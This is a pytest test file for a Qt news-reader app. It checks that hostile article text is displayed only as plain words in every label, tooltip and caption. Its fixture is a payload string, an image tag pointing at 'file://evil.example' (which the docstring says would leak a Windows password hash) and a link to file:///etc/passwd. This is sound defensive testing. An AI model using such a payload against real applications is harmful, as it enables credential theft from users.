"""Hostile page: its words are words everywhere in the window, tooltips and captions included.

Qt takes a text for HTML when it looks like it, in labels and tooltips, and then loads its pictures:
on Windows, ``file://evil.example/`` would send the person's password hash there.
"""

from __future__ import annotations

from collections.abc import Callable
from dataclasses import replace

import pytest
from PySide6.QtGui import Qt, QTextDocument
from PySide6.QtWidgets import QApplication, QLabel, QTextEdit, QWidget
from pytestqt.qtbot import QtBot

from liangjiang_reader.model.activity import Asked, Came
from liangjiang_reader.model.articles import Heading, Link, Paragraph, Photo, PhotoBlock, Text
from liangjiang_reader.model.keeping import Kept, KeptKind
from liangjiang_reader.model.library import Marks, StoredArticle
from liangjiang_reader.model.outcomes import ErrorCode, Failure
from liangjiang_reader.services.workspace import Workspace
from liangjiang_reader.ui.keep_dialog import KeepDialog
from liangjiang_reader.ui.main_window import MainWindow
from liangjiang_reader.ui.result_delegate import FOUND_ROLE
from tests.gui.conftest import OpenWindow
from tests.gui.fakes import FakeWorkspace, article, row

EVIL = '<img src="file://evil.example/x.png"><a href="file:///etc/passwd">press</a>'
ADDRESS = f"https://evil.example/?{EVIL}"


@pytest.fixture
def evil() -> FakeWorkspace:
    """A workspace whose one article says the worst in every place."""
    content = Text(EVIL, (Link(0, 4, ADDRESS), Link(5, 9, "file:///etc/passwd")))
    shown = replace(
        article(0),
        title=EVIL,
        author=EVIL,
        source=EVIL,
        editor=EVIL,
        blocks=(Heading(content), Paragraph(content), PhotoBlock(0)),
        photos=(Photo("https://evil.example/1.jpg", EVIL, EVIL, 10, 10),),
    )
    made = FakeWorkspace([row(0, title=EVIL, lead=EVIL)])
    made.reading.in_library = {"c_0": StoredArticle(shown, Marks(), {})}
    return made


@pytest.fixture
def shown(open_window: OpenWindow, evil: FakeWorkspace, qtbot: QtBot) -> MainWindow:
    """A window that shows this article."""
    opened = open_window(evil)
    qtbot.waitUntil(lambda: opened.headlines.model.rowCount() == 1)
    opened.headlines.list.choose(0)
    qtbot.waitUntil(lambda: opened.reader.article is not None)
    return opened


def read_as_html() -> list[str]:
    """Every label and tooltip on screen in which Qt would find a picture or a link."""
    found = []
    for widget in QApplication.allWidgets():
        name = f"{type(widget).__name__} {widget.objectName()}"
        if Qt.mightBeRichText(widget.toolTip()) and _loads(widget.toolTip()):
            found.append(f"tooltip of {name}")
        if isinstance(widget, QLabel) and _is_html(widget) and _loads(widget.text()):
            found.append(name)
        if isinstance(widget, QTextEdit):
            found += [f"{name}: {place}" for place in loaded_by(widget.document())]
    return found


def _is_html(label: QLabel) -> bool:
    if label.textFormat() == Qt.TextFormat.AutoText:
        return Qt.mightBeRichText(label.text())
    return label.textFormat() == Qt.TextFormat.RichText


def _loads(html: str) -> list[str]:
    document = QTextDocument()
    document.setHtml(html)
    return loaded_by(document)


def loaded_by(document: QTextDocument | None) -> list[str]:
    """Names of pictures and links of a document that are none of the program's own."""
    found = []
    block = document.begin() if document else None
    while block is not None and block.isValid():
        for span in block.textFormats():
            name = span.format.toImageFormat().name() if span.format.isImageFormat() else ""
            href = span.format.anchorHref()
            found += [place for place in (name, href) if place.startswith(("file:", "data:"))]
        block = block.next()
    return found


def test_the_pane_shows_the_words_and_holds_nothing_else(shown: MainWindow) -> None:
    assert EVIL in shown.article.toPlainText()
    assert read_as_html() == []


def test_the_status_line_shows_where_a_link_leads_as_words(shown: MainWindow) -> None:
    shown.article.link_hovered.emit(ADDRESS)
    label = shown.findChild(QLabel, "statusText")
    assert label is not None
    assert label.text() == ADDRESS
    assert read_as_html() == []


def test_what_could_not_be_fetched_is_told_as_words(shown: MainWindow) -> None:
    shown._status.set_activity(EVIL, f"{EVIL}\n{EVIL}")
    shown._status.set_connection("offline", EVIL)
    shown._offline_banner.say(EVIL, EVIL, shown=True)
    assert read_as_html() == []


def test_the_viewer_shows_title_and_caption_as_words(shown: MainWindow, qtbot: QtBot) -> None:
    shown.article.photo_pressed.emit(0)
    viewer = shown.photos.viewer
    qtbot.waitUntil(viewer.isVisible)
    title = viewer.findChild(QLabel, "viewerTitle")
    assert title is not None
    qtbot.waitUntil(lambda: title.text() == EVIL)
    viewer._words.told.setText(EVIL)
    assert read_as_html() == []


def test_the_search_shows_titles_as_words(
    shown: MainWindow, evil: FakeWorkspace, qtbot: QtBot
) -> None:
    shown._actions["search_library"].trigger()
    search = shown.library_search.window
    assert search is not None
    qtbot.waitUntil(lambda: evil.searching.prepared == 1)
    search.box.setText("img")
    qtbot.waitUntil(lambda: search.list.count() == 1)
    search.grab()
    delegate = search.list.itemDelegate()
    found = search.list.item(0).data(FOUND_ROLE)
    assert found is not None
    assert loaded_by(delegate._document(found, 400, selected=False)) == []  # type: ignore[attr-defined]
    assert read_as_html() == []


def test_names_of_lists_are_words(shown: MainWindow, qtbot: QtBot) -> None:
    dialog = KeepDialog(shown)
    dialog.open_for(Kept("english", KeptKind.SECTION, "news/local"), EVIL, is_kept=False)
    assert EVIL in dialog.question.text()
    assert read_as_html() == []


def test_the_activity_window_shows_addresses_as_words(
    real_workspace: Workspace, open_real_window: Callable[[Workspace], MainWindow], qtbot: QtBot
) -> None:
    failure = Failure(ErrorCode.CHALLENGE, ADDRESS)
    real_workspace.activity.note(Asked.ARTICLE, ADDRESS, Came.FAILED, seconds=1, failure=failure)
    opened = open_real_window(real_workspace)
    opened._actions["activity"].trigger()
    window = opened.activity.window
    assert window is not None
    qtbot.waitUntil(lambda: window.table.rowCount() == 1)
    window.table.setCurrentCell(0, 0)
    items = [window.table.item(0, column) for column in range(5)]
    tips = [item.toolTip() for item in items if item is not None]
    assert len(tips) == 5
    assert [tip for tip in tips if Qt.mightBeRichText(tip) and _loads(tip)] == []
    assert read_as_html() == []
    assert window.detail.textFormat() == Qt.TextFormat.PlainText


def test_no_label_of_the_window_takes_a_foreign_text_for_html(shown: MainWindow) -> None:
    """The labels that show what came from outside, by name."""
    for name in ("statusText", "placeTitle", "offlineBannerText", "viewerTitle"):
        for label in [w for w in QApplication.allWidgets() if w.objectName() == name]:
            assert isinstance(label, QLabel)
            assert label.textFormat() == Qt.TextFormat.PlainText, name


def test_a_picture_in_a_label_would_be_found(shown: MainWindow, qtbot: QtBot) -> None:
    careless = QWidget(shown)
    careless.setToolTip(EVIL)
    assert read_as_html() == ["tooltip of QWidget "]
